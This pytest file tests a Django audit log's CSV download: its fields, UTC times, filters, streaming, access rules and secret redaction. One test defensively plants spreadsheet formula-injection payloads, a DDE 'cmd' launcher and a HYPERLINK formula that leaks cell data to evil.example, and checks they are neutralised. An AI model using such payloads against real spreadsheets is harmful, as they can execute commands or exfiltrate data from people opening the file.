"""The audit log's CSV download: exactly the listed entries, all of them, streamed, safe to
open in a spreadsheet."""

import csv
import datetime as dt
import io
import json

import pytest
from bs4 import BeautifulSoup
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from apps.audit import csv_export
from apps.audit.csv_export import audit_csv_filename, audit_csv_lines, csv_safe
from apps.audit.models import AuditEntry
from apps.audit.services import audit_record
from tests.audit.conftest import REQUEST_ID, at
from tests.audit.factories import AuditEntryFactory
from tests.conftest import log_in

pytestmark = pytest.mark.django_db

CSV_URL = "/audit/audit-log.csv"
LIST_URL = "/audit/"
HEADER = [
    "time",
    "user",
    "context",
    "connection",
    "operation",
    "object type",
    "object id",
    "object",
    "status",
    "request id",
    "before",
    "after",
    "details",
]


def download(client, query: str = "") -> tuple[object, list[list[str]]]:
    """The response and its rows (header included), read as a spreadsheet would."""
    response = client.get(f"{CSV_URL}?{query}" if query else CSV_URL)
    assert response.status_code == 200
    assert response.streaming
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")  # Excel reads UTF-8 only with the byte order mark
    return response, list(csv.reader(io.StringIO(text[1:], newline="")))


def column(rows: list[list[str]], name: str) -> list[str]:
    assert rows[0] == HEADER
    index = HEADER.index(name)
    return [row[index] for row in rows[1:]]


def objects_listed(client, query: str) -> list[str]:
    """The Object column of the list page for the same query string."""
    soup = BeautifulSoup(client.get(f"{LIST_URL}?{query}").content, "html.parser")
    table = soup.select_one("[data-testid=object-table]")
    if table is None:
        return []
    headers = [th.get_text(strip=True) for th in table.select("thead th")]
    index = headers.index("Object")
    return [row.select("td")[index].get_text(strip=True) for row in table.select("tbody tr")]


def test_a_row_holds_every_field_of_the_entry(signed_in, viewer):
    entry = audit_record(
        operation="Update Connection Offer Mapping",
        object_type="mappings.offermapping",
        object_id=12,
        object_repr="Microsoft 365 E3 → Office 365 E3",
        before={"service_id": 301, "note": "old"},
        after={"service_id": 302, "note": 'old, "quoted"\nand a new line'},
        details={"autotask_ids": [29683812], "secret": "hunter2"},
        user=viewer,
        connection_name="Contoso PSA",
        status="failed",
        context="web",
    )
    stored = AuditEntry.objects.get(pk=entry.pk)

    response, rows = download(signed_in)

    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert rows == [
        HEADER,
        [
            stored.created_at.astimezone(dt.UTC).strftime("%Y-%m-%dT%H:%M:%SZ"),
            "vera-viewer",
            "web",
            "Contoso PSA",
            "Update Connection Offer Mapping",
            "mappings.offermapping",
            "12",
            "Microsoft 365 E3 → Office 365 E3",
            "failed",
            "",  # recorded outside a request: no request id
            '{"note":"old","service_id":301}',
            '{"note":"old, \\"quoted\\"\\nand a new line","service_id":302}',
            '{"autotask_ids":[29683812],"secret":"[redacted]"}',
        ],
    ]
    assert json.loads(rows[1][11])["note"] == 'old, "quoted"\nand a new line'


def test_time_is_utc_and_a_request_id_is_written_when_there_is_one(signed_in, settings):
    settings.TIME_ZONE = "Europe/Amsterdam"
    AuditEntryFactory(
        created_at=dt.datetime(2025, 7, 1, 0, 30, tzinfo=dt.timezone(dt.timedelta(hours=2))),
        request_id=REQUEST_ID,
        details={},
    )
    _, rows = download(signed_in)
    assert column(rows, "time") == ["2025-06-30T22:30:00Z"]
    assert column(rows, "request id") == [str(REQUEST_ID)]
    assert column(rows, "before") == column(rows, "after") == column(rows, "details") == [""]


def test_the_file_is_named_after_today(signed_in, entries):
    response, _ = download(signed_in)
    today = timezone.localdate().isoformat()
    assert response.headers["Content-Disposition"] == (
        f'attachment; filename="audit-log-{today}.csv"'
    )
    assert audit_csv_filename(day=dt.date(2025, 3, 9)) == "audit-log-2025-03-09.csv"


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("", [
            "Fabrikam PSA", "February 2025 invoice", "Contoso Ltd contract",
            "Microsoft 365 E5", "Microsoft 365 E3",
        ]),
        ("operation=Export+Contract", ["Contoso Ltd contract"]),
        ("status=failed", ["February 2025 invoice", "Microsoft 365 E5"]),
        ("status=succeeded", ["Fabrikam PSA", "Contoso Ltd contract", "Microsoft 365 E3"]),
        ("context=worker", ["Contoso Ltd contract"]),
        ("user=OPERATOR", ["Microsoft 365 E5"]),
        ("user=ada", ["Fabrikam PSA", "February 2025 invoice"]),
        ("object=700", ["Contoso Ltd contract"]),
        ("date_from=2025-03-04", ["Fabrikam PSA", "February 2025 invoice"]),
        ("date_to=2025-03-02", ["Microsoft 365 E5", "Microsoft 365 E3"]),
        ("date_from=2025-03-02&date_to=2025-03-03", ["Contoso Ltd contract", "Microsoft 365 E5"]),
        ("status=failed&context=web", ["Microsoft 365 E5"]),
        (f"request_id={REQUEST_ID}", ["Microsoft 365 E3"]),
        ("q=mapping+e5", ["Microsoft 365 E5"]),
        ("q=fabrikam&status=succeeded", ["Fabrikam PSA", "Contoso Ltd contract"]),
        ("user=ada&date_to=2025-03-04&operation=Import+Billing+Report", ["February 2025 invoice"]),
        # The table's sort applies too.
        ("sort=created_at&status=failed", ["Microsoft 365 E5", "February 2025 invoice"]),
        ("sort=operation&context=web", ["Fabrikam PSA", "Microsoft 365 E3", "Microsoft 365 E5"]),
        # An invalid filter lists nothing on the page, and so in the file.
        ("operation=Launch+Rocket", []),
        ("date_from=yesterday", []),
    ],
)  # fmt: skip
def test_the_file_holds_exactly_the_entries_the_list_shows(signed_in, entries, query, expected):
    _, rows = download(signed_in, query)
    assert column(rows, "object") == expected
    assert objects_listed(signed_in, query) == expected


def test_every_matching_entry_not_just_a_page(signed_in):
    for number in range(130):
        AuditEntryFactory(
            created_at=at(1) + dt.timedelta(minutes=number),
            object_repr=f"Offer {number:03}",
            status="failed" if number % 2 else "succeeded",
        )

    _, rows = download(signed_in, "status=failed&page=2&per_page=10")

    assert column(rows, "object") == [f"Offer {number:03}" for number in range(129, 0, -2)]
    assert len(rows) == 1 + 65


def test_cells_that_begin_like_a_formula_are_neutralised(signed_in):
    AuditEntryFactory(
        actor_name="+cmd|' /C calc'!A0",
        connection_name="-2+3",
        operation="@SUM(A1:A9)",
        object_type="\tmappings.offermapping",
        object_id="\r=1",
        object_repr='=HYPERLINK("https://evil.example/?"&A1,"Click")',
        details={"note": "=not at the start of the cell"},
    )

    _, rows = download(signed_in)
    row = dict(zip(HEADER, rows[1], strict=True))

    assert row["user"] == "'+cmd|' /C calc'!A0"
    assert row["connection"] == "'-2+3"
    assert row["operation"] == "'@SUM(A1:A9)"
    assert row["object type"] == "'\tmappings.offermapping"
    assert row["object id"] == "'\r=1"
    assert row["object"] == '\'=HYPERLINK("https://evil.example/?"&A1,"Click")'
    assert row["details"] == '{"note":"=not at the start of the cell"}'
    assert row["status"] == "succeeded"


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tTab", "'\tTab"),
        ("\rCR", "'\rCR"),
        ("Contoso = Fabrikam", "Contoso = Fabrikam"),
        ("'quoted", "'quoted"),
        ("", ""),
    ],
)
def test_csv_safe(text, safe):
    assert csv_safe(text) == safe


def test_the_query_count_does_not_grow_with_the_number_of_entries(signed_in, monkeypatch):
    # Few rows per fetch, so 3 and 40 entries take one and ten fetches.
    monkeypatch.setattr(csv_export, "AUDIT_CSV_CHUNK_SIZE", 4)

    def queries_for_download() -> tuple[int, int]:
        with CaptureQueriesContext(connection) as queries:
            _, rows = download(signed_in, "status=succeeded&q=offer")
        return len(rows) - 1, len(queries)

    for number in range(3):
        AuditEntryFactory(object_repr=f"Offer {number}")
    rows_for_3, queries_for_3 = queries_for_download()
    for number in range(3, 40):
        AuditEntryFactory(object_repr=f"Offer {number}")
    rows_for_40, queries_for_40 = queries_for_download()

    assert (rows_for_3, rows_for_40) == (3, 40)
    assert queries_for_3 == queries_for_40


def test_the_text_is_handed_on_in_pieces_as_it_is_read(monkeypatch):
    monkeypatch.setattr(csv_export, "AUDIT_CSV_BUFFER_CHARS", 500)
    for number in range(40):
        AuditEntryFactory(object_repr=f"Offer {number}")

    pieces = audit_csv_lines(entries=AuditEntry.objects.all(), chunk_size=7)
    first = next(pieces)
    rest = list(pieces)

    assert first.startswith("\ufefftime,user,")
    assert len(rest) >= 5
    assert all(len(piece) < 500 + 300 for piece in [first, *rest])
    lines = list(csv.reader(io.StringIO("".join([first, *rest])[1:], newline="")))
    assert [line[7] for line in lines[1:]] == [f"Offer {number}" for number in range(39, -1, -1)]


def test_the_list_links_to_the_download_with_its_query_string(signed_in, entries):
    soup = BeautifulSoup(
        signed_in.get(f"{LIST_URL}?status=failed&q=e5&sort=operation&page=1").content,
        "html.parser",
    )
    link = soup.select_one("[data-testid=csv-download]")
    assert link.get_text(strip=True) == "Download CSV"
    # Not the page: the file holds every page.
    assert link["href"] == f"{CSV_URL}?status=failed&q=e5&sort=operation"
    # The quick search reloads only the results: htmx swaps the link out of band too.
    assert (link["id"], link["hx-swap-oob"]) == ("audit-csv-download", "true")

    plain = BeautifulSoup(signed_in.get(LIST_URL).content, "html.parser")
    assert plain.select_one("[data-testid=csv-download]")["href"] == CSV_URL


def test_viewers_download_anonymous_is_sent_to_sign_in_no_role_is_refused(
    client, viewer, make_user, entries
):
    response = client.get(f"{CSV_URL}?status=failed")
    assert response.status_code == 302
    assert response.headers["Location"] == "/login/?next=/audit/audit-log.csv%3Fstatus%3Dfailed"

    make_user("nora-norole", None)
    assert log_in(client, "nora-norole")
    assert client.get(CSV_URL).status_code == 403

    assert log_in(client, viewer.username)
    _, rows = download(client)
    assert len(rows) == 1 + 5
